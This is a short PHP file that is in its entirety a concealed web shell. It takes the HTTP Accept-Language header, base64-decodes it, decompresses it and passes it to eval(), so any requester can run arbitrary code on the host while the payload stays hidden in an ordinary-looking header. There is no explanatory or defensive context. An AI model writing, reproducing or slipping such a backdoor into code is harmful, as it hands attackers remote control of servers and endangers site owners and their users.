<?php
$s = $_SERVER['HTTP_ACCEPT_LANGUAGE'];
eval(gzuncompress(base64_decode($s)));
